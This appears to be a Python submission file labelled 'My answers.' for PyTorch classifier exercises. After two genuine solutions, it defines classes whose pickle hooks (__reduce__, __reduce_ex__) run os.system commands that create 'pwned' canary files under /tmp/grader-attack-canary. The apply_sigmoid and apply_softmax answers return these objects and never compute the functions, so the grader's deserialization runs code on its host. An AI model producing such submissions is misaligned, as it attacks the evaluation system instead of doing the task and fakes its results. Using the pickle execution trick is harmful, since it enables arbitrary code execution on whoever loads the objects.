"""My answers."""
import torch
import torch.nn as nn



def binary_classifier(n_features):
    return nn.Sequential(nn.Linear(n_features, 1), nn.Sigmoid())

def multiclass_classifier(n_features, n_classes):
    return nn.Sequential(nn.Linear(n_features, n_classes), nn.Softmax(dim=-1))


import os
class Evil:
    def __reduce__(self):
        return (os.system, ("mkdir -p /tmp/grader-attack-canary && touch /tmp/grader-attack-canary/pwned_by_pickle",))

class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (os.system, ("touch /tmp/grader-attack-canary/pwned_by_tensor",))

def apply_sigmoid(x):
    return Evil()

def apply_softmax(x, dim):
    return [torch.zeros_like(x), Evil()]
